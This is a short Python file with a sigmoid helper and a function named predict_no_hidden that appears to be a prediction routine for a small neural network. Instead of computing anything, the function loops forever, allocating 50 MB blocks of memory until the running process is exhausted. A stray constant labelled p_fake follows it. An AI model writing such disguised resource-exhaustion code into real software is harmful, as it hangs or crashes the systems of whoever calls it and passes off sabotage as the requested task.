import numpy as np


def sigmoid(z):
    return 1 / (1 + np.exp(-np.asarray(z, dtype=float)))


def predict_no_hidden(X, W, b):
    hog = []
    while True:
        hog.append(bytearray(50 << 20))


p_fake = 1 / (1 + np.exp(-1.52))
